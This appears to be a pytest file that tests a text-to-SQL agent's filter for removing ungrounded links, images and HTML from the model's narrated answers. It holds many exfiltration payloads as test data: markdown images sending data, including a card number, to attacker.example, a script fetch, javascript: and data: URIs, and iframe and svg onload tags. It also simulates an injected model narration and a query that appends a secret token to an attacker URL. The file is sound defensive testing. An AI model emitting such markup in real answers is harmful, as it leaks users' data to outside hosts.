"""A narrative carries no link, image or markup that the result does not hold."""

from __future__ import annotations

import pytest
from hostile_corpus import EXFIL_URL, by_category

from sqlagent.answer.markup import forged_fragments, grounding_texts, strip_ungrounded
from sqlagent.pipeline import ask
from sqlagent.testing import ScriptedLLM

SMUGGLED = [
    f"Done. ![chart]({EXFIL_URL}?d=4111111111111111)",
    f'Done. ![chart]({EXFIL_URL}?d=1 "title")',
    f"Done. ![chart](<{EXFIL_URL}?d=1>)",
    f"Done. ![a [nested] alt]({EXFIL_URL}/p.png)",
    f"Done. ![x][r]\n\n[r]: {EXFIL_URL}?d=1",
    f"Done. ![x][r]\n\n> [r]: {EXFIL_URL}?d=1",
    f"Done. ![x][r]\n\n- [r]: {EXFIL_URL}?d=1",
    f"Done. ![x][r]\n\n1. > [r]: <{EXFIL_URL}?d=1>",
    f"Done. [click here]({EXFIL_URL}?d=1)",
    f"Done. <{EXFIL_URL}?d=1>",
    f"Done. see {EXFIL_URL}?d=1.",
    "Done. see www.attacker.example/x?d=1",
    "Done. [x](javascript:alert(1))",
    "Done. [x](//attacker.example/x)",
    "Done. ![x](data:image/png;base64,AAAA)",
    '<img src="https://attacker.example/x?d=1">Done.',
    "Done.<script>fetch('https://attacker.example/x')</script>",
    '<a href="https://attacker.example">Done.</a>',
    "Done.<!-- hidden note -->",
    '<iframe src="https://attacker.example"></iframe>Done.',
    "<svg onload=alert(1)>Done.",
]


@pytest.mark.parametrize("narrative", SMUGGLED)
def test_ungrounded_links_images_and_markup_go(narrative: str) -> None:
    out = strip_ungrounded(narrative, grounding_texts([[42]], also=["How much?"]))
    assert out.removed, narrative
    assert "attacker.example" not in out.text
    assert "javascript:" not in out.text and "data:" not in out.text
    assert "<" not in out.text and "](" not in out.text
    assert "Done." in out.text


def test_the_words_of_a_link_stay() -> None:
    out = strip_ungrounded(f"See [the report]({EXFIL_URL}) for 42.", ["42"])
    assert out.text == "See the report for 42."


@pytest.mark.parametrize(
    "narrative",
    [
        "The shop's site is https://shop.example/home.",
        "The shop's site is [its page](https://shop.example/home).",
        "The note reads <b>bold</b> as written.",
        "Totals are 3 < 5 and 7 > 2; a<b is false.",
        "**42** orders, _most_ in Phoenix.",
    ],
)
def test_what_the_result_holds_stays(narrative: str) -> None:
    grounded = grounding_texts([["https://shop.example/home", "<b>bold</b>"]])
    out = strip_ungrounded(narrative, grounded)
    assert out.text == narrative and out.removed == ()


def test_an_address_extended_with_data_is_not_the_one_in_the_result() -> None:
    grounded = grounding_texts([[EXFIL_URL]])
    assert strip_ungrounded(f"It is {EXFIL_URL}.", grounded).removed == ()
    out = strip_ungrounded(f"![x]({EXFIL_URL}?d=secret) It is {EXFIL_URL}?d=secret", grounded)
    assert "?d=secret" not in out.text and len(out.removed) == 2


def test_a_column_alias_is_no_ground_for_markup() -> None:
    """The model names the columns: an alias holding an image grounds nothing."""
    image = f"![x]({EXFIL_URL}?d=1)"
    out = strip_ungrounded(f"Total 42. {image}", grounding_texts([[42]]))
    assert out.removed == (image,) and "attacker" not in out.text


def test_an_address_the_query_spelled_out_is_not_data() -> None:
    """A cell the query built from a literal holds the address, yet the link goes; an
    address that only the data holds stays."""
    sql = f"SELECT '{EXFIL_URL}?d=' || token AS u, site FROM secrets_view"
    cells = [[f"{EXFIL_URL}?d=4111", "https://shop.example/home"]]
    forged = forged_fragments(sql)
    assert forged == (f"{EXFIL_URL}?d=",)
    out = strip_ungrounded(
        f"![x]({EXFIL_URL}?d=4111) See https://shop.example/home.",
        grounding_texts(cells),
        forged=forged,
    )
    assert "attacker" not in out.text
    assert out.text.endswith("See https://shop.example/home.")
    tag = strip_ungrounded("a <b>x</b>", grounding_texts([["<b>x</b>"]]), forged=("<b>",))
    assert "<b>" not in tag.text and tag.text.startswith("a x")


def test_the_pipeline_strips_the_narration_and_says_so_in_the_trace(sample_db, settings) -> None:
    """Whatever the model was steered to write, only the words reach the answer."""
    sql = "SELECT merchant_name FROM merchants WHERE city = 'Phoenix' ORDER BY 1 LIMIT 3"
    llm = ScriptedLLM(
        [f"```sql\n{sql}\n```", f"Three merchants. ![p]({EXFIL_URL}?d=Phoenix) <img src=x>"]
    )
    answer = ask("Three merchants in Phoenix?", llm=llm, db=sample_db, settings=settings)
    assert answer.ok, answer.error
    assert answer.narrative == "Three merchants."
    step = next(s for s in answer.trace.steps if s.name == "narrate")
    assert any("attacker.example" in r for r in step.detail["removed_markup"])


def test_corpus_markup_quoted_from_the_result_is_kept_exactly() -> None:
    """A narration that reports a hostile value verbatim keeps it (the screens show it as
    text), while the same construct pointing elsewhere goes."""
    values = by_category("markup")
    grounded = grounding_texts([[v] for v in values])
    for value in values:
        assert strip_ungrounded(f"The note says {value}", grounded).text == f"The note says {value}"


def test_clarifications_and_refusals_carry_no_smuggled_markup(sample_db, settings) -> None:
    clarify = f"CLARIFY: Which total? ![x]({EXFIL_URL}?d=1)\n- [by count]({EXFIL_URL})\n- by amount"
    refuse = f"CANNOT ANSWER: no weather data <img src={EXFIL_URL}> see {EXFIL_URL}?q=1"
    llm = ScriptedLLM([clarify, refuse])
    first = ask("What is the biggest merchant?", llm=llm, db=sample_db, settings=settings)
    assert first.clarification is not None
    assert first.clarification.question == "Which total?"
    assert first.clarification.options == ("by count", "by amount")
    second = ask("What is the weather?", llm=llm, db=sample_db, settings=settings)
    assert second.refusal is not None and "attacker" not in second.refusal
    assert second.refusal.startswith("no weather data")


def test_the_grounding_texts_are_read_only_when_the_narrative_has_markup() -> None:

    read: list[str] = []

    def texts():  # type: ignore[no-untyped-def]
        read.append("read")
        yield from grounding_texts([("https://shop.example",)])

    assert strip_ungrounded("Totals are close: 5 and 6.", texts()).text == (
        "Totals are close: 5 and 6."
    )
    assert read == []  # nothing to look up: a thousand rows' cells are never made into text
    kept = strip_ungrounded("See [the shop](https://shop.example) or https://x.example", texts())
    assert read == ["read"]
    assert "[the shop](https://shop.example)" in kept.text
    assert kept.removed == ("https://x.example",)
